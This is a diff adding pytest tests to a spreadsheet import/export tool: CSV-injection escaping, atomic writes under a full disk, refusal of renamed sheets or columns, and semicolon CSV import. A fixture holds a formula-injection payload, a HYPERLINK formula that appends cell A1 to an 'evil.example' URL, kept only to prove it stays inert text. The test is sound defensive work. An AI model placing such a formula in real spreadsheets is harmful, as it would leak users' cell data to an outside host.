@@ -11,9 +11,9 @@ import pytest
 import yaml
 from typer.testing import CliRunner
 
+from booklet.adapters.sheets import export_sheets, import_sheets
 from booklet.cli.app import app
 from booklet.content.load import load_project_content
-from booklet.adapters.sheets import export_sheets, import_sheets
 from booklet.errors import BookletError
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -265,3 +265,131 @@ def test_an_import_that_breaks_another_file_is_refused(project: Path, tmp_path: 
         import_sheets(tmp_path / "fewer.xlsx", project / "content", prune=True)
     assert any("audiences.yaml" in p.line() and name in p.line() for p in caught.value.problems)
     assert snapshot(project / "content") == before
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "summary": "+44 20 7946 0000 is the number to call.",
+    "roles": ["@mention", "-minus", "'=quoted already", "Analysts"],
+}
+
+
+def test_text_that_looks_like_a_formula_stays_text_both_ways(project: Path, tmp_path: Path) -> None:
+    """OWASP's CSV-injection advice on export (a `'` before = + - @ tab CR), undone exactly on import."""
+    path = project / "content" / "organisations" / "gds.yaml"
+    data = yaml.safe_load(path.read_text())
+    data.update(FORMULAS)
+    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
+    before = snapshot(project / "content")
+    export_sheets(project / "content", tmp_path / "content.xlsx")
+    export_sheets(project / "content", tmp_path / "csv")
+    gds = next(
+        r
+        for r in openpyxl.load_workbook(tmp_path / "content.xlsx")["Organisations"].iter_rows(min_row=2)
+        if r[0].value == "gds"
+    )
+    assert (gds[1].data_type, gds[1].value) == ("s", FORMULAS["name"])  # text, not a live formula
+    text = (tmp_path / "csv" / "Organisations.csv").read_text(encoding="utf-8-sig")
+    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"' in text
+    assert ",'+44 20 7946 0000 is the number to call.," in text
+    assert "'@mention; -minus; '=quoted already; Analysts" in text  # the list starts with @: one quote
+    for source in (tmp_path / "content.xlsx", tmp_path / "csv"):
+        assert import_sheets(source, project / "content").changes == []
+        assert snapshot(project / "content") == before
+    write_ods(tmp_path / "content.xlsx", tmp_path / "content.ods")
+    assert import_sheets(tmp_path / "content.ods", project / "content").changes == []
+
+
+def edited(project: Path, tmp_path: Path, name: str, edit) -> Path:
+    export_sheets(project / "content", tmp_path / "content.xlsx")
+    book = openpyxl.load_workbook(tmp_path / "content.xlsx")
+    edit(book)
+    book.save(tmp_path / name)
+    return tmp_path / name
+
+
+def import_lines(source: Path, project: Path) -> tuple[int, list[str]]:
+    """Run `booklet import` from the sheet's folder, as people do, so messages name it as typed."""
+    import os
+
+    here = os.getcwd()
+    os.chdir(source.parent)
+    try:
+        result = runner.invoke(app, ["import", source.name, "--content", str(project / "content")])
+    finally:
+        os.chdir(here)
+    assert "Traceback" not in result.output
+    return result.exit_code, [line for line in (result.stdout + result.stderr).splitlines() if line]
+
+
+def test_import_writes_every_file_or_none(project: Path, tmp_path: Path, monkeypatch) -> None:
+    import os
+
+    def edit(book):
+        book["Organisations"]["B2"] = "Renamed One"
+        book["Routes"]["B2"] = "Renamed Route"
+
+    source = edited(project, tmp_path, "two.xlsx", edit)
+    before = snapshot(project / "content")
+    real = os.fdopen
+    opened = []
+
+    def second_write_fails(fd, mode="r", *args, **kwargs):  # the disk fills up while the second file is written
+        opened.append(mode)
+        if opened.count("wb") == 2 and mode == "wb":
+            os.close(fd)
+            raise OSError(28, "No space left on device")
+        return real(fd, mode, *args, **kwargs)
+
+    monkeypatch.setattr(os, "fdopen", second_write_fails)
+    code, lines = import_lines(source, project)
+    monkeypatch.setattr(os, "fdopen", real)
+    assert code == 4, lines
+    assert lines[-1].startswith("error: content/") and lines[-1].endswith(
+        "cannot be written (No space left on device); no file was changed "
+        "(check the folder's permissions and free space, then import again)"
+    )
+    assert snapshot(project / "content") == before
+    assert not [p for p in (project / "content").rglob("*.tmp")]
+    code, lines = import_lines(source, project)
+    assert code == 0 and len([line for line in lines if line.startswith("changed: ")]) == 2
+
+
+def test_a_sheet_without_ids_or_renamed_is_refused_not_skipped(project: Path, tmp_path: Path) -> None:
+    def rename_column(book):
+        book["Routes"]["A1"] = "route id"
+
+    code, lines = import_lines(edited(project, tmp_path, "noid.xlsx", rename_column), project)
+    assert code == 1
+    assert lines == [
+        "error: noid.xlsx › Routes!A1  -  unknown column 'route_id' (the Routes sheet has columns: id, title, summary,"
+        " url, steps, tags, source, reviewed)",
+        "error: noid.xlsx › Routes!1  id  has no 'id' column (add it to the first row)",
+    ]
+
+    def rename_sheet(book):
+        book["Organisations"].title = "Organisations (edited)"
+
+    code, lines = import_lines(edited(project, tmp_path, "renamed.xlsx", rename_sheet), project)
+    assert code == 1
+    assert lines == [
+        "error: renamed.xlsx › Organisations (edited)  -  this sheet is not read: sheets are named Organisations, "
+        "Routes and Points (rename it to Organisations?)"
+    ]
+
+
+def test_a_semicolon_csv_from_excel_imports(project: Path, tmp_path: Path) -> None:
+    export_sheets(project / "content", tmp_path / "csv")
+    path = tmp_path / "csv" / "Routes.csv"
+    import csv as csvlib
+    import io
+
+    rows = list(csvlib.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
+    rows[1][1] = 'The "Fast Stream", renamed'
+    out = io.StringIO()
+    csvlib.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
+    path.write_text(out.getvalue(), encoding="utf-8-sig")
+    result = import_sheets(path, project / "content")
+    assert [c.action for c in result.changes] == ["changed"]
+    routes = yaml.safe_load((project / "content" / "routes.yaml").read_text())["routes"]
+    assert routes[0]["title"] == 'The "Fast Stream", renamed'
